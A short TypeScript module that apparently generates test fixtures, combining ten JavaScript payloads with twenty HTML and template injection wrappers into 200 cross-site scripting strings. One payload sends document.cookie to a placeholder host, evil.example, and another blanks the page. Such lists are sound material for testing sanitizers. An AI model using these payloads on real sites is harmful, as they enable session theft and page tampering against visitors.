/** 200 forms of text that would run, load or be seen if a page took them for markup. */

const RUN = "alert(1)";
const PAYLOADS = [
  RUN,
  "window.alert(2)",
  "top['al'+'ert'](3)",
  "fetch('https://evil.example/'+document.cookie)",
  "setTimeout('alert(4)')",
  "import('data:text/javascript,alert(5)')",
  "new Function('alert(6)')()",
  "[].constructor.constructor('alert(7)')()",
  "document.body.innerHTML=''",
  "location='javascript:alert(8)'",
];

const CARRIERS: readonly ((payload: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `"><svg onload="${js}">`,
  (js) => `'><iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `javascript:${js}`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `<details open ontoggle="${js}">`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<body onload="${js}">`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<math><mtext><style><img src=x onerror="${js}"></style></mtext></math>`,
  (js) => `<template><script>${js}</script></template>`,
  (js) => `</pre></textarea><script>${js}</script>`,
  (js) => `{{constructor.constructor("${js}")()}}`,
  (js) => `\${${js}}`,
  (js) => `<!--><script>${js}</script-->`,
  (js) => `<style>@import 'https://evil.example/${encodeURIComponent(js)}'</style>`,
  (js) => `<link rel=stylesheet href="https://evil.example/?${encodeURIComponent(js)}">`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
];

export const HOSTILE_TEXTS: readonly string[] = CARRIERS.flatMap((carry) => PAYLOADS.map(carry));
